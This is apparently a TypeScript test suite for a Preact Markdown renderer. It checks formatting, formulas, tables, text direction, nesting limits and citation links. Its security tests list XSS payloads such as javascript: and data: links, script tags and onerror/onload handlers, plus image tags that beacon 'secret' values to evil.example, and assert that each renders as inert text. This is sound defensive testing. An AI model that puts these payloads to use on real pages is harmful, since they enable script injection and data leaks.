// Markdown to nodes: what is shown, and what hostile text can't do.
import assert from "node:assert/strict";
import { test } from "node:test";
import { h } from "preact";
import { renderToString } from "preact-render-to-string";
import { Markdown } from "./markdown.tsx";
import { NESTING_MAX } from "./reader.ts";

const html = (text: string, settled = true) =>
  renderToString(h(Markdown, { text, settled }))
    .replace(/^<div class="prose">|<\/div>$/g, "")
    .replaceAll(' dir="auto"', "");

test("Markdown shows paragraphs, emphasis, code and line breaks", () => {
  assert.equal(
    html("Hello **you** and *me*, ~~not~~ `a < b`.  \nNext"),
    "<p>Hello <strong>you</strong> and <em>me</em>, <del>not</del> <code>a &lt; b</code>.<br/>Next</p>",
  );
});

test("Markdown shows lists, also nested, loose and numbered from elsewhere", () => {
  assert.equal(html("- a\n  - b\n- c"), "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>");
  assert.equal(html("3. a\n4. b"), '<ol start="3"><li>a</li><li>b</li></ol>');
  assert.match(html("- [x] done\n- [ ] open"), /type="checkbox" checked disabled.*type="checkbox" disabled/);
});

test("Markdown shows tables in a region that scrolls", () => {
  const table = html("| a | b |\n|---|--:|\n| 1 | 2 |");
  assert.match(table, /<section class="prose-table" tabindex="0" aria-label="Table"><table>/i);
  assert.match(table, /<th scope="col" class="align-right">b<\/th>/);
  assert.match(table, /<td class="align-right">2<\/td>/);
});

test("Markdown shows code blocks as text with a copy button", () => {
  const block = html("```js\nif (a < b) { '</code>' }\n```");
  assert.match(block, /<span>js<\/span>/);
  assert.match(block, /if \(a &lt; b\) \{ '&lt;\/code>' \}/);
  assert.match(block, /aria-label="Copy code"/);
});

test("Markdown opens links elsewhere without telling where from", () => {
  const link = html("[site](https://example.org/a?b=c) and me@example.org");
  assert.match(link, /<a href="https:\/\/example.org\/a\?b=c" target="_blank" rel="noopener noreferrer">site<\/a>/);
  assert.match(link, /<a href="mailto:me@example.org"/);
});

test("Markdown decodes entities into text", () => {
  assert.equal(html("R&amp;D &lt;b&gt; &#8364; &unknown;"), "<p>R&amp;D &lt;b> € &amp;unknown;</p>");
});

const FORMULAS = [
  "$a_1 * b_2 * c$",
  "$$\\sum_{i=1}^n *x*_i_$$",
  "\\(a_1 * b_2 * c\\)",
  "\\[ \\frac{a_1}{b_2} \\\\ [x](y) \\]",
  "$$\na_1 \\\\\n* b\n$$",
  "$\\text{\\$5}$",
];
for (const formula of FORMULAS) {
  test(`Markdown shows the formula ${JSON.stringify(formula)} as it was written`, () => {
    const inSentence = formula.includes("\n") ? `So\n${formula}\nholds` : `So ${formula} holds`;
    for (const text of [formula, inSentence, `- first\n- ${formula.replaceAll("\n", "\n  ")}`]) {
      const shown = html(text).replaceAll("&lt;", "<");
      const match = /class="maths(?: maths-block)?"(?: dir="ltr")?>([\s\S]*?)<\/(?:span|p)>/.exec(shown);
      assert.equal(match?.[1], formula, shown);
    }
  });
}

const NO_FORMULAS = [
  "It costs $5 and $10.",
  "from $5-$10 a piece",
  "a $ and *b* $",
  "US$ 5, then $x",
  "Set $HOME/bin and $PATH, costs $5/kg to $6/kg.",
  "Set $HOME or `$PATH` and see [the page](http://a.b).",
  "It costs $5; use `$total` for that.",
  "Use `$a` and `$b` here, or `a $` b `$ c`",
  "Echo $$ gives the PID; **run** `kill $$` now.",
  "It costs $5 (see [shop](http://a.b)) or **about US$**6.",
  "from $5 *to about 6$*",
];
for (const text of NO_FORMULAS) {
  test(`Markdown takes no formula from ${JSON.stringify(text)}`, () => {
    assert.doesNotMatch(html(text), /maths/);
  });
}

test("Markdown lets no lost sign of maths swallow what follows", () => {
  assert.match(html("$$ a lost sign\n\nThen **bold** and $$ again"), /<strong>bold<\/strong>/);
});

const HOSTILE_LINKS = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](<java&#10;script:alert(1)>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.org/1)",
  "[x](/api/auth/sign-out)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: javascript:alert(1)",
];
for (const text of HOSTILE_LINKS) {
  test(`Markdown makes no link of ${JSON.stringify(text)}`, () => {
    assert.doesNotMatch(html(text), /<a[\s>]/);
    assert.doesNotMatch(html(text, false), /<a[\s>]/);
  });
}

const HOSTILE_HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "hello <img src='https://evil.example/leak?q=secret'> there",
  "<iframe src='https://evil.example'></iframe>",
  "<style>body{display:none}</style>",
  "<a href='javascript:alert(1)'>x</a>",
  "<div><p onclick=alert(1)>x</p></div>",
  "- <svg/onload=alert(1)>",
  "| <img src=x> |\n|---|\n| <b>x</b> |",
  "<!-- comment --><object data=x></object>",
];
for (const text of HOSTILE_HTML) {
  test(`Markdown shows ${JSON.stringify(text)} as text`, () => {
    for (const shown of [html(text), html(text, false)]) {
      assert.doesNotMatch(shown, /<(script|img|iframe|style|svg|object|b|a)[\s>/]/);
      assert.match(shown, /&lt;/);
    }
  });
}

test("Markdown never loads a picture: it names it and links to it", () => {
  const shown = html("![my secret](https://evil.example/p.png?d=secret)");
  assert.doesNotMatch(shown, /<img|src=/);
  assert.match(shown, /<a href="https:\/\/evil.example\/p.png\?d=secret"[^>]*>my secret \(https:\/\/evil.example/);
  assert.doesNotMatch(html("![x](data:image/svg+xml,<svg/onload=alert(1)>)"), /<(img|a|svg)[\s>/]/);
});

test("Markdown keeps code, links and emphasis between two dollars", () => {
  const shell = html("Set $HOME or `$PATH` and see [the page](http://a.b).");
  assert.match(shell, /<code>\$PATH<\/code> and see <a href="http:\/\/a.b"/);
  const prices = html("It costs $5 (see [shop](http://a.b)) or **about US$** then.");
  assert.match(prices, /<a href="http:\/\/a.b".*<strong>about US\$<\/strong> then/);
  assert.match(html("Echo $$ gives the PID; **run** `kill $$` now."), /<strong>run<\/strong> <code>kill \$\$<\/code>/);
  assert.match(html("and **x** \\[not maths\\](http://a)"), /\[not maths\]\(/);
});

test("Markdown gives each block its own direction", () => {
  const shown = renderToString(h(Markdown, { text: "Hello\n\nשלום\n\n- a", settled: true }));
  assert.match(shown, /^<div class="prose"><p dir="auto">Hello<\/p><p dir="auto">שלום<\/p><ul dir="auto">/);
});

test("Markdown leaves links as words where there is nowhere to go", () => {
  const shown = renderToString(h(Markdown, { text: "[site](https://example.org)", settled: true, hasLinks: false }));
  assert.match(shown, /<span>site<\/span>/);
  assert.doesNotMatch(shown, /<a[\s>]/);
});

for (const [what, mark] of [
  ["list", "1. "],
  ["bullets", "- "],
  ["quote", "> "],
  ["quote without blanks", ">"],
  ["emphasis", "*a **b "],
] as const) {
  for (const times of [100, 400, 2_900]) {
    test(`Markdown shows a ${what} nested ${times} deep, and what stands around it`, () => {
      for (const settled of [true, false]) {
        const shown = html(`Before **b**.\n\n${mark.repeat(times)}deep\n\nAfter.`, settled);
        assert.match(shown, /<strong>b<\/strong>/);
        assert.ok(shown.includes("deep") && shown.includes("After."));
        assert.ok((shown.match(/<(?:ol|ul|blockquote)/g) ?? []).length <= NESTING_MAX);
      }
    });
  }
}

test("Markdown survives odd text", () => {
  assert.ok(html(`${"[".repeat(2_000)}`).includes("["));
  assert.equal(html(""), "");
});

test("Markdown makes numbers of sources small links with a name, and nothing else of what stands in brackets", () => {
  const citations = new Map([
    [1, { href: "/library/a?p=A%2FRay", label: "Source 1: Ray" }],
    [2, { href: "/library/a?p=A%2FSoul", label: "Source 2: Soul" }],
  ]);
  const cited = (text: string, hasLinks = true) =>
    renderToString(h(Markdown, { text, settled: true, citations, hasLinks })).replaceAll(' dir="auto"', "");
  const link = '<a class="citation" href="/library/a?p=A%2FRay" aria-label="Source 1: Ray" title="Source 1: Ray">1</a>';
  assert.ok(cited("A singer [1].").includes(`<p>A singer ${link}.</p>`));
  assert.equal(cited("He [1][2] and **she [1, 2]**.").match(/class="citation"/g)?.length, 4);
  assert.match(cited("- item [1]"), /citation/);
  assert.doesNotMatch(cited("[3] [12] [a] \\[1\\] `[1]`"), /citation/);
  const hijacked = cited("A singer [1].\n\n[1]: https://evil.example");
  assert.ok(hijacked.includes(link) && !hijacked.includes("evil"));
  assert.match(cited("A singer [1]. More [2], too.", false), /<p>A singer\. More, too\.<\/p>/);
  assert.doesNotMatch(html("A singer [1]."), /citation/);
});
